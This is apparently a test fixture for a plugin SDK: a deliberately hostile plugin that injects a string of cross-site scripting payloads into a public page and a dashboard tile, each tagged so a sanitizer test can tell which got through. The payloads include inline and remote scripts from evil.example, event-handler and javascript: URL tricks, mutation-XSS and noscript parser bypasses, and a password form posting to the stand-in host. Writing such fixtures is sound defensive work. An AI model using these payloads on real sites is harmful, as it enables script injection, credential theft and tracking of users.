import type { Plugin } from '@liberacces/sdk'
import { BureauTile } from '@liberacces/sdk/slots'
import { Page } from '@liberacces/sdk/ui'
import { evil } from '../evil-plugin.ts'

/** Each would run, load or send something if it came through to a browser as it is. What follows `evil-mark-` tells which did. */
const EVIL_HTML = `
<p class="harmless">harmless</p>
<script>window.evil = 1 /* evil-mark-script */</script>
<script src="https://evil.example/evil-mark-remote.js"></script>
<img src=x onerror="evil('evil-mark-onerror')">
<svg onload="evil('evil-mark-svg')"><script>evil('evil-mark-svg-script')</script><a xlink:href="javascript:evil('evil-mark-xlink')">x</a></svg>
<a href="javascript:evil('evil-mark-href')">x</a><a href=" &#106;avascript:evil('evil-mark-entity')">x</a>
<a href="data:text/html,<script>evil('evil-mark-data')</script>">x</a>
<iframe src="https://evil.example/evil-mark-frame" srcdoc="<script>evil('evil-mark-srcdoc')</script>"></iframe>
<object data="https://evil.example/evil-mark-object"></object><embed src="https://evil.example/evil-mark-embed">
<base href="https://evil.example/evil-mark-base/"><meta http-equiv="refresh" content="0;url=https://evil.example/evil-mark-meta"><link rel="stylesheet" href="https://evil.example/evil-mark-link.css">
<style>body { background: url(https://evil.example/evil-mark-style) }</style><p style="background:url(https://evil.example/evil-mark-attribute)">x</p>
<form action="https://evil.example/evil-mark-form"><input name="password"><button formaction="https://evil.example/evil-mark-button">x</button></form>
<img src="https://evil.example/evil-mark-pixel.gif"><video src="https://evil.example/evil-mark-video" autoplay></video>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=evil('evil-mark-mutation')&gt;">
<noscript><p title="</noscript><img src=x onerror=evil('evil-mark-noscript')>"></noscript>
<turbo-stream action="append" target="body"><template><script>evil('evil-mark-turbo')</script></template></turbo-stream>
</main></body></html><script>evil('evil-mark-after')</script>`

const Raw = (): ReturnType<typeof Page> => <div dangerouslySetInnerHTML={{ __html: EVIL_HTML }} />

/** Puts scripts, remote addresses and forms of its own into its page and into its tile of the Bureau. */
const plugin: Plugin = evil('script-in-html', () => [], {
  setup(k) {
    const registrar = k as unknown as { page(spec: object, render: () => unknown): void; contribute(slot: object, what: object): void }
    registrar.page({ path: '/page', audience: 'public', title: 'title' }, () => <Page title="Evil"><Raw /></Page>)
    registrar.contribute(BureauTile, { title: 'title', icon: 'mail', render: async () => <Raw /> })
  },
})
export default plugin
